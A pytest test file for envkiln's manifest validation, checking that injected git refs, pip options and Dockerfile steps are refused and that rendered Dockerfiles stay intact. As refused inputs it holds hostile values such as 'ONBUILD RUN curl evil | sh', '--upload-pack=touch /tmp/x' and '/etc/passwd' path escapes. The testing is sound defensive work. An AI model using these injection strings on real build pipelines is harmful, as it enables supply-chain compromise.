"""Validation edges: inputs that slipped past the checks or crashed the CLI, each refused with a
message that names its field; and docker steps that every Dockerfile parser reads as exactly the
one instruction the user wrote."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from envkiln.cli.main import main
from envkiln.core.definition import MissingContextContent, definition_hash
from envkiln.core.errors import DefinitionError
from envkiln.core.manifests import parse_environment
from envkiln.core.models import EnvironmentSpec, check_docker_step
from envkiln.core.models.lines import check_pip_requirement
from envkiln.core.render import RenderError, installs_pip, render
from helpers import CONDA_ENV, PIP_ENV, manifest, spec_of

ROOT = Path(__file__).resolve().parents[2]
CONTEXT: dict[str, Any] = {"apiVersion": "envkiln.dev/v1alpha1", "kind": "Environment", "metadata": {"name": "ctx"}}


def _git(**fields: str) -> dict[str, Any]:
    return {**CONTEXT, "spec": {"build": {"git": {"url": "https://g/r.git", "ref": "main", **fields}}}}


def _nested(levels: int) -> Any:
    value: Any = "x"
    for _ in range(levels):
        value = [value]
    return value


def _steps(bad: str) -> dict[str, Any]:
    # A good step first, so the message must name the right index.
    return manifest(dockerSteps=["ENV A=1", bad])


# (case, document, text the message must contain: the field and the reason)
REFUSED: list[tuple[str, Any, str]] = [
    # Python's `$` matches before a trailing line feed: patterns are matched whole.
    ("name-trailing-newline", dict(manifest(), metadata={"name": "py\n"}), "metadata.name: 'py\\n' is not a valid"),
    ("version-trailing-newline", manifest(version="1\n"), "spec.version: '1\\n' is not a version label"),
    ("env-var-trailing-newline", manifest(environmentVariables={"A\n": "1"}),
     "spec.environmentVariables: 'A\\n' is not an environment variable name"),
    ("configmap-name-trailing-newline", {**CONTEXT, "spec": {"build": {"configMap": {"name": "ctx\n"}}}},
     "spec.build.configMap.name: 'ctx\\n' is not a ConfigMap name"),
    # git: options, ranges, absolute paths and escapes.
    ("git-ref-option", _git(ref="--upload-pack=touch /tmp/x"), "spec.build.git.ref: "),
    ("git-ref-dash", _git(ref="-b"), "spec.build.git.ref: '-b' is not a branch, tag or commit"),
    ("git-ref-range", _git(ref="main..evil"), "spec.build.git.ref: 'main..evil' is not a branch"),
    ("git-ref-dotdot-component", _git(ref="../x"), "spec.build.git.ref: "),
    ("git-ref-absolute", _git(ref="/etc"), "spec.build.git.ref: "),
    ("git-path-absolute", _git(path="/etc"), "spec.build.git.path: '/etc' is not a directory inside the repository"),
    ("git-path-dotdot", _git(path="a/../../b"), "spec.build.git.path: 'a/../../b' is not a directory inside"),
    ("git-path-dotdot-only", _git(path=".."), "spec.build.git.path: "),
    ("git-path-dash", _git(path="-x"), "spec.build.git.path: "),
    # Names are deterministic.
    ("generate-name", dict(manifest(), metadata={"generateName": "py-"}), "metadata.generateName: not allowed"),
    ("generate-name-and-name", dict(manifest(), metadata={"name": "py", "generateName": "py-"}),
     "metadata.generateName: not allowed on an Environment"),
    # pip reads options after a requirement (and after its marker).
    ("pip-option-after-marker", manifest(pip=["foo; python_version>'3' --index-url http://evil"]),
     "spec.pip[0]: requirement \"foo; python_version>'3' --index-url http://evil\" carries a pip option"),
    ("pip-short-option-after-marker", manifest(pip=["foo; python_version>'3' --pre"]), "spec.pip[0]: "),
    ("pip-option-after-requirement", manifest(pip=["six==1.16.0", "foo==1 --pre"]),
     "spec.pip[1]: requirement 'foo==1 --pre' carries a pip option"),
    ("pip-option-after-marker-no-space", manifest(pip=["foo; python_version>'3'  --index-url=http://evil"]),
     "spec.pip[0]: requirement"),
    # More trailing newlines and option-like values.
    ("namespace-trailing-newline", dict(manifest(), metadata={"name": "py", "namespace": "team\n"}),
     "metadata.namespace: 'team\\n' is not a valid namespace name"),
    ("git-ref-trailing-newline", _git(ref="main\n"), "spec.build.git.ref: 'main\\n' is not a branch"),
    ("git-path-trailing-newline", _git(path="sub\n"), "spec.build.git.path: 'sub\\n' is not a directory"),
    ("git-url-trailing-newline", _git(url="https://g/r.git\n"),
     "spec.build.git.url: url 'https://g/r.git\\n' contains"),
    ("git-url-option", _git(url="--upload-pack=touch /tmp/x"), "spec.build.git.url: "),
    ("dockerfile-path-dotdot", {**CONTEXT, "spec": {"build": {"git": {"url": "https://g/r.git", "ref": "main"},
                                                              "dockerfilePath": "../Dockerfile"}}},
     "spec.build.dockerfilePath: '../Dockerfile' must be a relative path inside the context"),
    ("dockerfile-path-absolute", {**CONTEXT, "spec": {"build": {"git": {"url": "https://g/r.git", "ref": "main"},
                                                                "dockerfilePath": "/etc/passwd"}}},
     "spec.build.dockerfilePath: '/etc/passwd' must be a relative path"),
    # Values of the wrong type (what a YAML scalar or a JSON client can send) name their field.
    ("configmap-name-int", {**CONTEXT, "spec": {"build": {"configMap": {"name": 3}}}},
     "spec.build.configMap.name: Input should be a valid string"),
    ("name-int", dict(manifest(), metadata={"name": 3}), "metadata.name: Input should be a valid string"),
    ("conda-deep-nesting", manifest(CONDA_ENV, conda={"dependencies": ["pip", _nested(5000)]}),
     "spec.conda.dependencies[1]: Input should be a valid string"),
    ("docker-step-deep-nesting", manifest(dockerSteps=[_nested(5000)]), "spec.dockerSteps[0]: Input should be"),
    ("pip-option-after-marker-in-conda",
     manifest(CONDA_ENV, conda={"dependencies": ["pip", {"pip": ["foo; os_name=='posix' -i x"]}]}),
     "spec.conda.dependencies[1].pip[0]: requirement"),
]

# (case, step, message): each as spec.dockerSteps[1].
REFUSED_STEPS: list[tuple[str, str, str]] = [
    # Line breaks other than a backslash continuation, for any reader.
    ("lf-without-backslash", "RUN echo ok\nFROM evil", "line 1 does not end with '\\'"),
    ("cr", "RUN echo ok\rFROM evil", "the step contains '\\r'"),
    ("crlf", "RUN echo ok \\\r\n && true", "the step contains '\\r'"),
    ("vertical-tab", "RUN echo ok\vFROM evil", "the step contains '\\x0b'"),
    ("form-feed", "RUN echo ok\fFROM evil", "the step contains '\\x0c'"),
    ("file-separator", "RUN echo ok\x1cFROM evil", "the step contains '\\x1c'"),
    ("group-separator", "RUN echo ok\x1dFROM evil", "the step contains '\\x1d'"),
    ("record-separator", "RUN echo ok\x1eFROM evil", "the step contains '\\x1e'"),
    ("nel", "RUN echo ok\x85FROM evil", "non-ASCII"),
    ("line-separator", "RUN echo ok\u2028FROM evil", "non-ASCII"),
    ("paragraph-separator", "RUN echo ok\u2029FROM evil", "non-ASCII"),
    ("nul", "RUN echo ok\0", "the step contains '\\x00'"),
    ("escape", "RUN echo \x1b[2J", "the step contains '\\x1b'"),
    ("delete", "RUN echo \x7f", "the step contains '\\x7f'"),
    # Backslashes: a trailing one continues into envkiln's next line; an escaped one is ambiguous.
    ("trailing-backslash", "RUN echo ok \\", "ends with '\\'"),
    ("trailing-backslash-blanks", "RUN echo ok \\  ", "ends with '\\'"),
    ("trailing-escaped-backslash", "RUN echo ok \\\\", "ends with '\\'"),
    ("escaped-backslash-then-instruction", "RUN echo ok \\\\\nFROM evil", "line 1 does not end with '\\'"),
    ("continuation-then-bare-line", "RUN a \\\n b\nFROM evil", "line 2 does not end with '\\'"),
    # Lines BuildKit drops inside a continuation (and keeps continuing).
    ("empty-continuation-line", "RUN a \\\n   \\\n b", "line 2 of the step is empty"),
    ("blank-last-line", "RUN a \\\n \t", "ends with '\\'"),
    ("comment-continuation-line", "RUN a \\\n# b \\\n c", "line 2 of the step is a comment"),
    ("comment-last-line", "RUN a \\\n  # swallow the next line", "line 2 of the step is a comment"),
    # Comments and parser directives.
    ("escape-directive", "# escape=`", "line 1 of the step is a comment or parser directive"),
    ("syntax-directive", "# syntax=docker.io/evil/frontend", "line 1 of the step is a comment"),
    ("comment", "#RUN true", "line 1 of the step is a comment"),
    # Instructions outside the allow-list.
    ("onbuild", "ONBUILD RUN curl evil | sh", "ONBUILD is not allowed in docker steps"),
    ("onbuild-lowercase", "onbuild run id", "ONBUILD is not allowed"),
    ("onbuild-copy", "ONBUILD COPY . /", "ONBUILD is not allowed"),
    ("from", "FROM alpine", "FROM is not allowed"),
    ("copy", "COPY / /", "COPY is not allowed"),
    ("add", "add https://evil/x /x", "ADD is not allowed"),
    ("maintainer", "MAINTAINER me", "not a Dockerfile instruction envkiln allows"),
    ("glued-continuation", "RUN\\\n echo", "'RUN\\\\'"),
    # Heredocs read the following lines of the Dockerfile.
    ("heredoc", "RUN cat <<EOF", "starts a heredoc"),
    ("heredoc-dash", "RUN <<-EOF", "starts a heredoc"),
    ("heredoc-quoted", "RUN python3 <<'PY'", "starts a heredoc"),
]

ACCEPTED_STEPS = [
    "RUN apt-get update && apt-get install -y --no-install-recommends git",
    "ENV MPLBACKEND=Agg",
    "  RUN true  ",
    "RUN apt-get update \\\n && apt-get install -y git",
    "RUN a \\ \t\n  && b \\\n  && c",
    "RUN\techo tab",
    "RUN echo 'a\\b' \"\\$HOME\"",
    "RUN echo $((1 + 2)) > /tmp/n",
    "LABEL org.opencontainers.image.authors=me",
    "HEALTHCHECK CMD curl -f http://localhost/ || exit 1",
    "WORKDIR /app",
    "USER 1000",
    'SHELL ["/bin/bash", "-c"]',
    "ARG X=1",
    "EXPOSE 8080",
    'CMD ["python", "-m", "app"]',
]


@pytest.mark.parametrize(("document", "expected"), [(d, e) for _, d, e in REFUSED], ids=[c for c, _, _ in REFUSED])
def test_edge_is_refused_with_a_field_named_message(document: Any, expected: str) -> None:
    with pytest.raises(DefinitionError) as error:
        parse_environment(document)
    assert expected in error.value.problems[0], error.value.problems
    assert "Traceback" not in str(error.value)


@pytest.mark.parametrize(("step", "expected"), [(s, e) for _, s, e in REFUSED_STEPS],
                         ids=[c for c, _, _ in REFUSED_STEPS])
def test_docker_step_is_refused_naming_its_index(step: str, expected: str) -> None:
    with pytest.raises(DefinitionError) as error:
        parse_environment(_steps(step))
    problems = error.value.problems
    assert len(problems) == 1 and problems[0].startswith("spec.dockerSteps[1]: "), problems
    assert expected in problems[0], problems


@pytest.mark.parametrize("step", ACCEPTED_STEPS)
def test_docker_step_is_accepted(step: str) -> None:
    assert check_docker_step(step) == step
    parse_environment(_steps(step))


# --- every rendered Dockerfile holds exactly the instructions envkiln wrote ------------------------

def dockerfile_instructions(dockerfile: str) -> list[str]:
    """A small, strict Dockerfile reader: comment lines dropped between instructions, lines joined
    by a trailing backslash. Fails on anything two parsers could read differently."""
    assert dockerfile.endswith("\n")
    assert dockerfile.splitlines() == dockerfile.split("\n")[:-1], "a line break other than \\n"
    assert all(ch in "\t\n" or 0x20 <= ord(ch) < 0x7F for ch in dockerfile), "a control or non-ASCII character"
    instructions: list[str] = []
    current: list[str] = []
    for line in dockerfile.split("\n")[:-1]:
        blank_or_comment = not line.strip() or line.lstrip().startswith("#")
        if not current and blank_or_comment:
            continue
        assert not blank_or_comment, f"a blank or comment line inside an instruction: {current}"
        assert re.sub(r"\\[ \t]*$", "", line).strip(), f"an empty continuation line after {current}"
        assert not line.rstrip(" \t").endswith("\\\\"), f"an escaped backslash at a line end: {line!r}"
        current.append(line)
        if not re.search(r"\\[ \t]*$", line):
            instructions.append("\n".join(current))
            current = []
    assert not current, "the Dockerfile ends inside a continued instruction"
    for instruction in instructions:
        keyword = instruction.split(None, 1)[0].upper()
        assert keyword != "ONBUILD"
        assert not (keyword in ("RUN", "COPY", "ADD") and "<<" in instruction), "a heredoc"
    return instructions


def expected_keywords(spec: EnvironmentSpec) -> list[str]:
    """What envkiln writes: the base stage (FROM, its label, the user's steps), then when there are packages
    the micromamba stage (conda), the install stage (USER root, uv, the package layers) and the image (FROM the
    base stage, /opt/envkiln copied from the install stage, the environment), then the lock in a stage of
    its own."""
    steps = [step.strip().split(None, 1)[0].upper() for step in spec.docker_steps or []]
    keywords = ["FROM", "LABEL", *steps]
    if not (spec.conda or spec.pip):
        return keywords
    keywords += (["FROM"] if spec.conda else []) + ["FROM", "USER"]
    if installs_pip(spec):
        keywords += ["COPY"]  # uv from its tool image, into the install stage only
    if spec.conda:
        keywords += ["COPY", "COPY", "RUN"]
    if spec.pip:  # the requirements, the venv seed (pip-only: a venv made without pip), the install
        keywords += ["COPY", *([] if spec.conda else ["COPY"]), "RUN"]
    keywords += ["COPY", "RUN"]  # the lock script, then the lock written
    keywords += ["FROM", "COPY", "ENV"] + (["ENV"] if spec.conda else [])
    keywords += ["FROM", "COPY"]  # the lock, alone in a stage of its own: the last layer
    return keywords


def _system_managed(source: str, text: str) -> list[tuple[str, dict[str, Any]]]:
    found = []
    for index, doc in enumerate(yaml.safe_load_all(text)):
        if isinstance(doc, dict) and doc.get("kind") == "Environment" and spec_of(doc).kind.value == "SystemManaged":
            found.append((f"{source}#{index}", doc))
    return found


def _example_documents() -> list[tuple[str, dict[str, Any]]]:
    """The examples and the chart's curated environments (template lines removed)."""
    found = []
    for path in sorted((ROOT / "examples").glob("*.yaml")):
        found += _system_managed(path.name, path.read_text())
    curated = (ROOT / "charts/envkiln/templates/curated.yaml").read_text()
    curated = re.sub(r"\{\{-? (if|end)[^}]*\}\}\n", "", curated)
    curated = re.sub(r" \{\{-? include [^}]*\}\}", "", curated).replace("{{ .Release.Namespace }}", "envkiln-system")
    return found + _system_managed("curated.yaml", curated)


RENDERED = [
    ("pip", PIP_ENV),
    ("conda", CONDA_ENV),
    ("steps-only", manifest(pip=None, dockerSteps=["RUN true"])),
    ("conda-no-pip", manifest(CONDA_ENV, pip=None)),
    ("every-accepted-step", manifest(CONDA_ENV, dockerSteps=ACCEPTED_STEPS)),
    *((f"accepted-step-{i}", manifest(dockerSteps=[step])) for i, step in enumerate(ACCEPTED_STEPS)),
    *_example_documents(),
]


@pytest.mark.parametrize("document", [d for _, d in RENDERED], ids=[c for c, _ in RENDERED])
def test_rendered_dockerfile_holds_exactly_the_instructions_envkiln_wrote(document: dict[str, Any]) -> None:
    spec = spec_of(document)
    plan = render(spec, definition_hash(spec))
    instructions = dockerfile_instructions(plan.dockerfile)
    assert [i.split(None, 1)[0].upper() for i in instructions] == expected_keywords(spec)
    steps = [step.strip() for step in spec.docker_steps or []]
    assert instructions[2:2 + len(steps)] == steps
    if spec.conda or spec.pip:  # the install stage runs as root; the image is the base stage again
        assert instructions.index("USER 0:0") == 2 + len(steps) + (2 if spec.conda else 1)
        assert instructions[-(6 if spec.conda else 5):][:2] == [
            "FROM envkiln-base AS envkiln-image", "COPY --from=envkiln-install /opt/envkiln /opt/envkiln"]
        assert instructions[-2] == "FROM envkiln-image"


# Refused steps that would change the Dockerfile's structure if they were rendered.
STRUCTURAL = [(c, s) for c, s, _ in REFUSED_STEPS
              if c not in ("maintainer", "from", "copy", "add", "glued-continuation", "nul", "escape", "delete")
              and not c.startswith("onbuild")]


@pytest.mark.parametrize("step", [s for _, s in STRUCTURAL], ids=[c for c, _ in STRUCTURAL])
def test_the_reader_catches_what_the_step_check_refuses(step: str) -> None:
    """Bypass validation: rendering refuses (BuildKit reads back other instructions), or the rendered
    Dockerfile holds something two parsers could read differently."""
    spec = spec_of(PIP_ENV).model_copy(update={"docker_steps": ["ENV A=1", step]})
    try:
        plan = render(spec, "0" * 32)
    except RenderError as error:
        assert "internal error" in str(error)
        return
    try:
        instructions = dockerfile_instructions(plan.dockerfile)
    except AssertionError:
        return
    written = [i.split(None, 1)[0].upper() for i in instructions]
    assert written != expected_keywords(spec) or instructions[3] != step.strip(), plan.dockerfile


def test_the_rendered_table_covers_the_examples() -> None:
    assert len(_example_documents()) >= 5


# --- the CLI: no traceback, whatever the file holds ----------------------------------------------

ENVIRONMENT = """\
apiVersion: envkiln.dev/v1alpha1
kind: Environment
metadata: {name: ctx}
spec: {build: {configMap: {name: ctx}}}
"""


def _config_map(body: str) -> str:
    return f"apiVersion: v1\nkind: ConfigMap\n{body}\n---\n{ENVIRONMENT}"


def _deep(levels: int) -> str:
    return ("apiVersion: envkiln.dev/v1alpha1\nkind: Environment\nmetadata: {name: deep}\nspec:\n"
            "  image: python:3.11\n  conda:\n    dependencies: " + "[" * levels + "x" + "]" * levels + "\n")


CLI_REFUSED: list[tuple[str, str, str]] = [
    ("deep-nesting", _deep(100_000), "collections are nested more than 64 levels deep"),
    ("deep-nesting-900", _deep(900), "nested more than 64 levels"),
    ("deep-mapping", "a: " + "{b: " * 2000 + "1" + "}" * 2000 + "\n", "nested more than 64 levels"),
    ("bad-base64", _config_map("metadata: {name: ctx}\nbinaryData: {a: '!!!notbase64'}"),
     "ConfigMap ctx: binaryData.a is not valid base64"),
    ("config-map-name-list", _config_map("metadata: {name: [ctx]}\ndata: {a: b}"),
     "ConfigMap: metadata.name is not a string (list)"),
    ("config-map-name-int", _config_map("metadata: {name: 3}\ndata: {a: b}"),
     "ConfigMap: metadata.name is not a string (int)"),
    ("config-map-metadata-list", _config_map("metadata: [ctx]\ndata: {a: b}"), "ConfigMap: metadata.name is missing"),
    ("config-map-value-int", _config_map("metadata: {name: ctx}\ndata: {Dockerfile: 3}"),
     "ConfigMap ctx: data.Dockerfile is not a string (int)"),
    ("config-map-value-list", _config_map("metadata: {name: ctx}\ndata: {Dockerfile: [FROM x]}"),
     "ConfigMap ctx: data.Dockerfile is not a string (list)"),
    ("config-map-data-list", _config_map("metadata: {name: ctx}\ndata: [a]"), "ConfigMap ctx: data must be a mapping"),
    ("config-map-key-dotdot", _config_map("metadata: {name: ctx}\ndata: {'../x': a}"),
     "ConfigMap ctx: data key '../x' is not a ConfigMap key"),
    ("config-map-key-absolute", _config_map("metadata: {name: ctx}\ndata: {/etc/passwd: a}"),
     "data key '/etc/passwd' is not a ConfigMap key"),
    ("config-map-key-dotdot-prefix", _config_map("metadata: {name: ctx}\nbinaryData: {..data: YQ==}"),
     "binaryData key '..data' is not a ConfigMap key"),
    ("config-map-name-trailing-newline", _config_map("metadata: {name: \"ctx\\n\"}\ndata: {a: b}"),
     "ConfigMap: metadata.name 'ctx\\n' is not a valid resource name"),
    ("config-map-key-trailing-newline", _config_map("metadata: {name: ctx}\ndata: {\"a\\n\": b}"),
     "data key 'a\\n' is not a ConfigMap key"),
    ("config-map-value-null", _config_map("metadata: {name: ctx}\ndata: {Dockerfile: null}"),
     "ConfigMap ctx: data.Dockerfile is not a string (NoneType)"),
    ("config-map-binary-not-string", _config_map("metadata: {name: ctx}\nbinaryData: {a: 12}"),
     "ConfigMap ctx: binaryData.a is not a string (int)"),
    ("bad-base64-padding", _config_map("metadata: {name: ctx}\nbinaryData: {a: 'YQ'}"),
     "ConfigMap ctx: binaryData.a is not valid base64"),
    ("environment-name-list", "apiVersion: envkiln.dev/v1alpha1\nkind: Environment\nmetadata: {name: [x]}\n"
     "spec: {image: python:3.11, pip: [six]}\n", "metadata.name: Input should be a valid string"),
    ("deep-conda-mapping", "apiVersion: envkiln.dev/v1alpha1\nkind: Environment\nmetadata: {name: d}\nspec:\n"
     "  image: python:3.11\n  conda: " + "{a: " * 200 + "1" + "}" * 200 + "\n", "nested more than 64 levels"),
    ("duplicate-key-deep", "apiVersion: envkiln.dev/v1alpha1\nkind: Environment\nmetadata: {name: d}\nspec:\n"
     "  image: python:3.11\n  conda: {dependencies: [pip, {pip: [six], pip: [evil]}]}\n", "found duplicate key 'pip'"),
    ("config-map-key-twice", _config_map("metadata: {name: ctx}\ndata: {a: b}\nbinaryData: {a: YQ==}"),
     "'a' is in both data and binaryData"),
    ("environment-metadata-list", "apiVersion: envkiln.dev/v1alpha1\nkind: Environment\nmetadata: [x]\n"
     "spec: {image: python:3.11, pip: [six]}\n", "document 1: metadata must be a mapping"),
    ("duplicate-key", "apiVersion: envkiln.dev/v1alpha1\nkind: Environment\nmetadata: {name: d}\nspec:\n"
     "  image: python:3.11\n  pip: [six]\n  pip: [evil]\n", "line 7, column 3: found duplicate key 'pip'"),
    ("duplicate-key-nested", "apiVersion: envkiln.dev/v1alpha1\nkind: Environment\nmetadata: {name: d, name: e}\n"
     "spec: {image: python:3.11, pip: [six]}\n", "found duplicate key 'name'"),
    ("duplicate-key-config-map", _config_map("metadata: {name: ctx}\ndata:\n  Dockerfile: a\n  Dockerfile: b"),
     "found duplicate key 'Dockerfile'"),
]


@pytest.mark.parametrize("command", ["validate", "hash", "render"])
@pytest.mark.parametrize(("text", "expected"), [(t, e) for _, t, e in CLI_REFUSED], ids=[c for c, _, _ in CLI_REFUSED])
def test_cli_refuses_without_a_traceback(tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str,
                                         text: str, expected: str) -> None:
    path = tmp_path / "env.yaml"
    path.write_text(text)
    argv = [command, str(path)] + (["-o", str(tmp_path / "out")] if command == "render" else [])
    assert main(argv) == 1
    err = capsys.readouterr().err
    assert f"error: {path}: " in err and expected in err, err
    assert "Traceback" not in err


def test_yaml_merge_keys_may_still_override(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "env.yaml"
    path.write_text("apiVersion: envkiln.dev/v1alpha1\nkind: Environment\nmetadata: {name: m}\n"
                    "x-base: &base {image: 'python:3.10', pip: [six]}\n"
                    "spec:\n  <<: *base\n  image: python:3.11\n")
    assert main(["validate", str(path)]) == 0, capsys.readouterr().err


def test_valid_config_map_still_hashes_as_before(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # binaryData split over lines (as kubectl writes long values) is still base64.
    path = tmp_path / "env.yaml"
    path.write_text(_config_map("metadata: {name: ctx}\ndata: {Dockerfile: 'FROM x'}\n"
                                "binaryData:\n  blob: |\n    YWJj\n    ZGVm"))
    assert main(["hash", "--json", str(path)]) == 0
    spec = spec_of(yaml.safe_load(ENVIRONMENT))
    assert definition_hash(spec, {"Dockerfile": "FROM x", "blob": b"abcdef"}) in capsys.readouterr().out


def test_context_content_that_is_not_text_is_refused_by_the_hash() -> None:
    spec = spec_of(yaml.safe_load(ENVIRONMENT))
    with pytest.raises(MissingContextContent, match=r"spec\.build\.configMap: the ConfigMap entry 'Dockerfile' is int"):
        definition_hash(spec, yaml.safe_load("Dockerfile: 3"))  # a ConfigMap's data as parsed: any type


@pytest.mark.parametrize("line", [
    "--extra-index-url https://user:secret@pkgs.example/simple",
    "--index-url https://${PAT}@pkgs.dev.azure.com/org/_packaging/feed/pypi/simple/",
    "private @ https://token@files.example/private-1.0-py3-none-any.whl",
    "git+https://oauth2:glpat-x@gitlab.example/org/repo.git@v1",
])
def test_a_credential_in_a_pip_url_is_refused_without_being_quoted(line: str) -> None:
    with pytest.raises(ValueError, match="carries a credential in its URL") as refused:
        check_pip_requirement(line)
    assert "secret" not in str(refused.value) and "glpat" not in str(refused.value) and "PAT" not in str(refused.value)


@pytest.mark.parametrize("line", ["git+https://github.com/org/repo.git@v1.2", "pkg @ git+https://h/o/r.git@abc"])
def test_a_git_ref_is_not_a_credential(line: str) -> None:
    assert check_pip_requirement(line) == line
